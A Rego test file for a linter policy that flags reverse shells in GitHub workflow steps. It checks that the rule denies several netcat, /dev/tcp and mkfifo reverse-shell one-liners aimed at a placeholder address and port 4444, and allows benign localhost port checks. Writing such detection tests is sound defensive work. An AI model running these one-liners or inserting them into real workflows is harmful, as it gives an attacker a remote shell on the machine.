package lintel.github.step.reverse_shell_not_opened_test

import data.lintel.github.step.reverse_shell_not_opened
import data.lintel.lib.testing

test_violations_are_denied if {
	reverse_shell_not_opened.deny == {{"path": ["commands", 0]}} with input as testing.script([["nc", "-e", "/bin/sh", "192.0.2.1", "4444"]])
	reverse_shell_not_opened.deny == {{"path": ["run"]}} with input as testing.step(["push"], {"run": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"})
	reverse_shell_not_opened.deny == {{"path": ["run"]}} with input as testing.step(["push"], {"run": "mkfifo f; cat f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > f"})
}

test_others_are_allowed if {
	reverse_shell_not_opened.deny == set() with input as testing.script([["nc", "-z", "localhost", "5432"]])
	reverse_shell_not_opened.deny == set() with input as testing.step(["push"], {"run": "timeout 5 bash -c '</dev/tcp/localhost/5432'"})
}
